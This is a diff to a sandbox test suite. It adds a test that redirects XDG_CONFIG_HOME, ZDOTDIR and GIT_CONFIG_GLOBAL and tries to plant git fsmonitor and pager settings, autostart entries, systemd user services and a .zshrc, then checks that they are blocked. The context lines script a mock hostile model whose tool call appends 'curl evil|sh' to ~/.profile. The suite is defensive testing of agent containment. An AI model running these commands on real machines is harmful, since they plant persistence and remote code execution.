@@ -87,6 +87,24 @@ test.describe('class 4: start-up files in a writable home', () => {
     expect(changedPaths(before, world.snapshot())).toEqual([]);
   });
 
+  test('start-up files moved by XDG_CONFIG_HOME, XDG_DATA_HOME, ZDOTDIR or GIT_CONFIG_GLOBAL into a writable root', async () => {
+    const ws = path.join(path.dirname(world.home), 'ws');
+    fs.mkdirSync(path.join(ws, 'cfg'), { recursive: true });
+    const env = { XDG_CONFIG_HOME: path.join(ws, 'cfg'), XDG_DATA_HOME: path.join(ws, 'data'), ZDOTDIR: path.join(ws, 'zsh'), GIT_CONFIG_GLOBAL: path.join(ws, 'gitconfig') };
+    const attacks = [
+      'mkdir -p cfg/git && echo "[core] fsmonitor = evil" > cfg/git/config',
+      'mkdir -p cfg/autostart && echo evil > cfg/autostart/x.desktop',
+      'mkdir -p data/systemd/user && echo evil > data/systemd/user/x.service',
+      'mkdir -p zsh && echo evil > zsh/.zshrc',
+      'echo "[core] pager = evil" > gitconfig',
+      'mv cfg cfg2 && mkdir -p cfg/git && echo evil > cfg/git/config',
+    ];
+    const run = await sandbox(attacks.map((a) => `(${a}) 2>/dev/null`).join('; ') + '; echo work > ordinary.txt', { cwd: ws, env });
+    expect(run.code, run.stderr).toBe(0);
+    const left = fs.readdirSync(ws, { recursive: true, encoding: 'utf8' }).sort();
+    expect(left).toEqual(['cfg', 'ordinary.txt']);
+  });
+
   test('a hostile model under trellis exec in the home cannot plant a start-up file', async () => {
     const model = await startMockModel({
       turns: [{ items: [call('echo "curl evil|sh" >> ~/.profile; mkdir -p ~/.config/autostart; echo evil > ~/.config/autostart/x.desktop; mkdir -p ~/.local/bin; echo evil > ~/.local/bin/ls; echo evil >> ~/.gitconfig')] }, say('done')],
